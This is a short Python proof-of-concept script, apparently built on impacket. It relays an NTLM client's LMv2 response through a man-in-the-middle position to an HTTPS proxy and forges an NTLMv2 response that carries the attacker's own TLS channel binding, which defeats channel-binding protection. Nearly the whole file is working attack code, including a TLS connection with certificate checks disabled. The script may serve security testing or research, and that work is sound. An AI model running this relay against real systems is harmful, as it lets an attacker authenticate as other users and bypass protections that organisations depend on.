#!/usr/bin/python3
"""lm_relay.py HOST:PORT DOMAIN\\USER PASSWORD

What somebody in between can do with an NTLM client that also sends an LMv2 response: he passes that on, which proves the password, and writes an NTLMv2 response of his own beside
it, which proves nothing and names the channel binding of his own TLS connection to the proxy at https://HOST:PORT. Prints the last status. By Debian's python3-impacket.
"""
import base64
import hashlib
import socket
import ssl
import struct
import sys

from impacket import ntlm

from bound_client import ask

CHANNEL_BINDINGS, END = 10, 0      # [MS-NLMP] 2.2.2.1


def pair(identifier, value):
    return struct.pack("<HH", identifier, len(value)) + value


def main(proxy, user, password):
    host, port = proxy.rsplit(":", 1)
    domain, name = user.split("\\")
    tls = ssl._create_unverified_context().wrap_socket(socket.create_connection((host, int(port)), 20), server_hostname="localhost")
    data = b"tls-server-end-point:" + hashlib.sha256(tls.getpeercert(True)).digest()
    binding = hashlib.md5(bytes(16) + struct.pack("<I", len(data)) + data).digest()

    hello = ntlm.getNTLMSSPType1("", "", signingRequired=False, use_ntlmv2=True)
    _, fields = ask(tls, "Authorization: NTLM %s\r\n" % base64.b64encode(hello.getData()).decode())
    challenge = base64.b64decode([value for field, value in fields if field.lower() == "www-authenticate" and value.startswith("NTLM ")][0][5:])
    proof, _ = ntlm.getNTLMSSPType3(hello, challenge, name, password, domain, use_ntlmv2=True)
    assert any(proof["lanman"]), "there is no LMv2 response to pass on"
    proof["ntlm"] = bytes(16) + b"\1\1" + bytes(26) + pair(CHANNEL_BINDINGS, binding) + pair(END, b"") + bytes(4)
    status, _ = ask(tls, "Authorization: NTLM %s\r\n" % base64.b64encode(proof.getData()).decode())
    print(status)


if __name__ == "__main__":
    main(*sys.argv[1:])
